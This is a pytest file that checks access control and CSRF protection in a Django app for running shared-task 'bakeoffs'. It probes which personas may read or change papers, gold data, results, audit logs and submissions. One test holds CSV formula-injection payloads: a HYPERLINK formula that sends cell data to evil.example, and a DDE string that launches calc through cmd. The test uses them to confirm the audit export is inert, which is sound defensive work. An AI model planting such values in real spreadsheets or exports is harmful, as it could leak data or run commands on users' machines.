"""An adversary's probe of who may read or write what (papers, the development phase, results
versions, the registration API, the audit trail, drafts), one row a probe, and of the newer forms'
CSRF. The probed bakeoff and its personas: tests/bakeoff/adversary.py.
"""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import timezone

from bakeoff import services
from bakeoff.models import Bakeoff, Site, Submission
from leaderboard.services import do_publish
from tests.bakeoff.adversary import B, ProbedBakeoff, client
from tests.factories import close_submissions, make_corpus, publish

pytestmark = pytest.mark.django_db


# -- who may read or write what ------------------------------------------------------------------

# (method, path, the status of those named, everyone else's status). Anonymous is named where a
# login_required view sends them to sign in (302).
OWN = {"pat": 200, "olga": 200}
SIGN_IN = {"anonymous": 302}
PROBES = [
    ("get", "tracks/pk-closed/paper/{site}.pdf", OWN, 404),
    ("get", "corpora/PK/development/gold/", {**OWN, "elsa": 200}, 403),
    ("get", "audit/", {**SIGN_IN, "olga": 200}, 404),
    ("get", "audit.csv", {**SIGN_IN, "olga": 200}, 404),
    ("get", "submissions/{run}/", {**SIGN_IN, **OWN}, 404),
    ("post", "tracks/pk-closed/paper/", {**SIGN_IN, "pat": 302}, 403),
    ("post", "tracks/pk-open/paper/", {**SIGN_IN, "elsa": 302}, 403),
    ("post", "submissions/{run}/withdraw/", {**SIGN_IN, "pat": 302, "olga": 403}, 404),
    ("post", "corpora/PK/development/", {**SIGN_IN, "olga": 200}, 404),
    ("post", "corpora/PK/tracks/pk-closed/post-bakeoff/", {**SIGN_IN, "olga": 302}, 404),
    ("post", "results/erratum/", SIGN_IN, 404),  # nothing published yet: nothing to correct
    ("post", "results/withdraw/", {**SIGN_IN, "olga": 302}, 404),
]


@pytest.mark.parametrize(("method", "path", "named", "others"), PROBES)
def test_only_those_allowed_read_or_write(
    probed: ProbedBakeoff, method: str, path: str, named: dict[str, int], others: int
) -> None:
    url = B + path.format(site=probed.site.pk, run=probed.run)
    form = {"url": "https://example.org/paper", "title": "t", "reason": "x", "open": "1"}
    for name, user in probed.people.items():
        response = getattr(client(user), method)(url, form if method == "post" else None)
        assert response.status_code == named.get(name, others), (name, url, response.status_code)


def test_an_organiser_reaches_no_object_of_another_bakeoff_through_their_own(
    probed: ProbedBakeoff,
) -> None:
    """Every number in an organiser's addresses is looked up within the bakeoff of the address."""
    pending = Site.objects.get(name="Pending").registrations.get()
    pat = probed.people["pat"]
    assert pat is not None
    paths = [
        f"registrations/{pending.pk}/decide/",
        f"participants/{probed.site.pk}/edit/",
        f"participants/{probed.site.pk}/register/",
        f"participants/{probed.site.pk}/members/{pat.pk}/remove/",
        f"submissions/{probed.run}/",
        f"submissions/{probed.run}/withdraw/",
    ]
    mal = client(probed.people["mal"])
    for path in paths:
        for method in ("get", "post"):
            response = getattr(mal, method)("/bakeoffs/other/" + path, {"decision": "approve"})
            assert response.status_code in (403, 404, 405), (method, path, response.status_code)
    pending.refresh_from_db()
    assert pending.status == "pending"
    assert probed.site.members.filter(pk=pat.pk).exists()
    assert Submission.objects.get(pk=probed.run).withdrawn_at is None


def test_a_results_version_scheduled_for_later_is_nobodys_yet_but_the_organisers(
    probed: ProbedBakeoff,
) -> None:
    close_submissions(probed.bakeoff)
    do_publish(probed.bakeoff, at=timezone.now() + timedelta(hours=1))
    closed = f"{B}results/v1/tracks/pk-closed/"
    for path in ("results/v1/", "results/v1/tracks/pk-closed/", "results/v1/f.svg"):
        for name in ("anonymous", "otto", "elsa", "pat"):
            assert client(probed.people[name]).get(B + path).status_code == 404, (name, path)
    for suffix in ("results.csv", "results.json", "results.tex", f"runs/{probed.run}/"):
        assert client(None).get(closed + suffix).status_code == 404, suffix


def test_published_results_cannot_be_withdrawn_by_their_organiser(probed: ProbedBakeoff) -> None:
    publish(probed.bakeoff)
    client(probed.people["olga"]).post(B + "results/withdraw/")
    probed.bakeoff.refresh_from_db()
    assert probed.bakeoff.results_published is not None
    assert client(None).get(B + "results/v1/").status_code == 200


@pytest.mark.parametrize("moment", ["after the deadline", "after publication"])
def test_a_run_is_not_withdrawn_once_submissions_are_closed(
    probed: ProbedBakeoff, moment: str
) -> None:
    if moment == "after publication":
        publish(probed.bakeoff)
    else:
        close_submissions(probed.bakeoff)
    response = client(probed.people["pat"]).post(f"{B}submissions/{probed.run}/withdraw/")
    assert response.status_code == 403
    assert Submission.objects.get(pk=probed.run).withdrawn_at is None


def test_nobody_but_its_organisers_finds_a_draft(probed: ProbedBakeoff) -> None:
    organiser = probed.people["olga"]
    assert organiser is not None
    draft = Bakeoff.objects.get(slug="draft")
    services.do_add_development_set(
        make_corpus(draft), text=None, gold="我们 在 北京\n".encode(), by=organiser
    )
    paths = (
        "",
        "results/",
        "audit/",
        "tracks/pk-closed/",
        "tracks/pk-closed/development/",
        "corpora/PK/development/gold/",
    )
    for name, user in probed.people.items():
        for path in paths:
            status = client(user).get("/bakeoffs/draft/" + path).status_code
            assert status in ((200,) if name == "olga" else (302, 404)), (name, path, status)
        response = client(user).post(
            "/api/bakeoffs/draft/registrations/",
            {"tracks": [], "name": "N", "institution": "I"},
            content_type="application/json",
        )
        assert response.status_code in ((400,) if name == "olga" else (401, 403, 404)), name


def test_the_registration_api_registers_only_for_tracks_of_that_bakeoff(
    probed: ProbedBakeoff,
) -> None:
    response = client(probed.people["mal"]).post(
        "/api/bakeoffs/other/registrations/",
        {"tracks": ["pk-closed"], "name": "Sneaky", "institution": "I"},
        content_type="application/json",
    )
    assert response.status_code == 400
    assert response.json()["code"] == "unknown_track"
    assert not Site.objects.filter(name="Sneaky").exists()


@pytest.mark.parametrize("phase", ["test", "development", "post_bakeoff"])
def test_no_run_of_any_phase_from_a_site_not_approved_for_the_track(
    probed: ProbedBakeoff, phase: str
) -> None:
    before = Submission.objects.count()
    for name in ("otto", "penny", "rufus", "elsa", "mal"):
        response = client(probed.people[name]).post(
            "/api/bakeoffs/b2026/tracks/pk-closed/submissions/",
            {"file": SimpleUploadedFile("run.txt", "我们 在 北京\n".encode()), "phase": phase},
        )
        assert response.status_code in (403, 404), (name, response.status_code)
    assert Submission.objects.count() == before


@pytest.mark.parametrize(
    ("phase", "when", "code"),
    [
        ("development", "after the deadline", "deadline_passed"),
        ("test", "after the deadline", "deadline_passed"),
        ("post_bakeoff", "before publication", "not_released"),
    ],
)
def test_an_approved_site_uploads_only_within_the_phase(
    probed: ProbedBakeoff, phase: str, when: str, code: str
) -> None:
    if when == "after the deadline":
        close_submissions(probed.bakeoff)
    before = Submission.objects.count()
    response = client(probed.people["pat"]).post(
        "/api/bakeoffs/b2026/tracks/pk-closed/submissions/",
        {"file": SimpleUploadedFile("run.txt", "我们 在 北京\n".encode()), "phase": phase},
    )
    assert response.status_code == 403, response.content
    assert response.json()["code"] == code
    assert Submission.objects.count() == before


def test_a_run_is_withdrawn_only_by_its_site_and_under_its_own_track(probed: ProbedBakeoff) -> None:
    api = "/api/bakeoffs/{}/tracks/{}/submissions/{}/withdraw/"
    probes = [
        ("pat", api.format("b2026", "pk-open", probed.run)),
        ("pat", api.format("other", "pk-closed", probed.run)),
        ("elsa", api.format("b2026", "pk-closed", probed.run)),
        ("mal", api.format("b2026", "pk-closed", probed.run)),
    ]
    for name, url in probes:
        assert client(probed.people[name]).post(url).status_code == 404, (name, url)
    assert Submission.objects.get(pk=probed.run).withdrawn_at is None


def test_a_refused_site_applies_again_only_while_registration_is_open(
    probed: ProbedBakeoff,
) -> None:
    registration = Site.objects.get(name="Refused").registrations.get()
    probed.bakeoff.registration_closes = timezone.now() - timedelta(minutes=1)
    probed.bakeoff.save(update_fields=["registration_closes"])
    response = client(probed.people["rufus"]).post(
        "/api/bakeoffs/b2026/registrations/",
        {"tracks": ["pk-closed"], "resources_statement": "again"},
        content_type="application/json",
    )
    assert response.status_code == 400, response.content
    registration.refresh_from_db()
    assert registration.status == "refused"


def test_the_audit_csv_is_inert_whatever_a_site_is_named(probed: ProbedBakeoff) -> None:
    evil = '=HYPERLINK("http://evil.example/?"&A2,"x")'
    response = client(probed.people["otto"]).post(
        "/api/bakeoffs/b2026/registrations/",
        {"tracks": ["pk-closed"], "name": evil, "institution": "@SUM(1+1)*cmd|' /C calc'!A0"},
        content_type="application/json",
    )
    assert response.status_code == 201
    rows = list(csv.reader(io.StringIO(client(probed.people["olga"]).get(B + "audit.csv").text)))
    assert any("HYPERLINK" in cell for row in rows for cell in row)
    assert not [cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@")]


# -- CSRF on the newer forms ---------------------------------------------------------------------


@pytest.mark.parametrize(
    ("who", "path"),
    [
        ("pat", "tracks/pk-closed/paper/"),
        ("pat", "submissions/{run}/withdraw/"),
        ("olga", "corpora/PK/development/"),
        ("olga", "corpora/PK/tracks/pk-closed/post-bakeoff/"),
        ("olga", "results/erratum/"),
        ("olga", "results/withdraw/"),
        ("olga", "audit/"),
    ],
)
def test_a_post_without_its_csrf_token_is_refused(
    probed: ProbedBakeoff, who: str, path: str
) -> None:
    url = B + path.format(run=probed.run)
    response = client(probed.people[who], csrf=True).post(url, {"url": "https://e.org/", "x": 1})
    assert response.status_code == 403


def test_the_registration_api_refuses_a_session_without_csrf_token(probed: ProbedBakeoff) -> None:
    response = client(probed.people["otto"], csrf=True).post(
        "/api/bakeoffs/b2026/registrations/",
        {"tracks": ["pk-closed"], "name": "N", "institution": "I"},
        content_type="application/json",
    )
    assert response.status_code == 403
    assert not Site.objects.filter(name="N").exists()
